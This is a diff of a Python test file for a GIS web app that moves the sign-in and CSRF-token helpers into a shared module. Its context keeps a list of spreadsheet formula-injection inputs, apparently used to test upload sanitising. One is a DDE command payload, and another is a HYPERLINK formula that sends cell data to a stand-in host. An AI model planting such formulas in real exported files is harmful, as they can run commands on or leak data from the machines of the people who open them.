@@ -18,9 +18,9 @@ from click.testing import CliRunner
 from gisapp.accounts import Accounts
 from gisapp.cli import cli
 from gisapp.web.app import create_app
+from tests.helpers import PASSWORD, signed_in, token_of
 from tests.stores import BACKENDS, new_store
 
-PASSWORD = "correct horse battery"
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1)", "+1+2", "-3+4",
             "\t=1+1", "\r=1+1"]
 
@@ -37,17 +37,6 @@ def make_app(store_url, tmp_path, **config):
 @pytest.fixture
 def app(demo_store, tmp_path):
     return make_app(demo_store.url, tmp_path)
-
-
-def token_of(page: str) -> str:
-    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
-
-
-def signed_in(app, name):
-    client = app.test_client()
-    csrf = token_of(client.get("/login").get_data(as_text=True))
-    assert client.post("/login", data={"username": name, "password": PASSWORD, "csrf_token": csrf}).status_code == 302
-    return client
 
 
 def upload(client, content, name="permits.geojson", layer="sidewalk_permits", lang=None, **extra):
